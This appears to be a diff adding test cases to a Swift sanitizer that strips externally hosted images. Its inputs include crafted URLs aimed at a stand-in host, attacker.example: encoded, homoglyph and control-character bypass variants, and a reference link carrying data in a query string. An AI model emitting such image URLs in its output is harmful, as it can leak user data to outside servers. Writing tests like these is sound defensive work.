@@ -36,9 +36,14 @@ import Testing
         ("![x](https://attacker&#46;example/a.png)", ["attacker.example"], "[EXTERNAL_IMAGE]"),
         ("![x](https://аttacker.example/a.png)", ["attacker.example"], "[EXTERNAL_IMAGE]"),
         ("![x](javascript:fetch)", [], "[EXTERNAL_IMAGE]"),
+        (#"<img src="/&#x2F;attacker.example/x.png">"#, [], "[EXTERNAL_IMAGE]"),
+        ("<img src=\"/\t/attacker.example/x.png\">", [], "[EXTERNAL_IMAGE]"),
+        ("<img src=\" \u{1}//attacker.example/x.png\">", [], "[EXTERNAL_IMAGE]"),
         // Relative paths and data URIs load nothing from elsewhere.
         ("![diagram](images/flow.png?v=2&x=1)", [], "![diagram](images/flow.png?v=2&x=1)"),
         ("![diagram](/static/flow.png)", [], "![diagram](/static/flow.png)"),
+        ("![my chart](charts/my%20chart.png)", [], "![my chart](charts/my%20chart.png)"),
+        ("![chart](charts/2026:q3.png)", [], "![chart](charts/2026:q3.png)"),
         ("![dot](data:image/png;base64,iVBORw0KGgo=)", [], "![dot](data:image/png;base64,iVBORw0KGgo=)"),
         // Reference definitions, which images use: the definition is what loads.
         ("![chart][1]\n\n[1]: https://attacker.example/?d=abc\n", [], "![chart][1]\n\n[EXTERNAL_IMAGE]\n"),
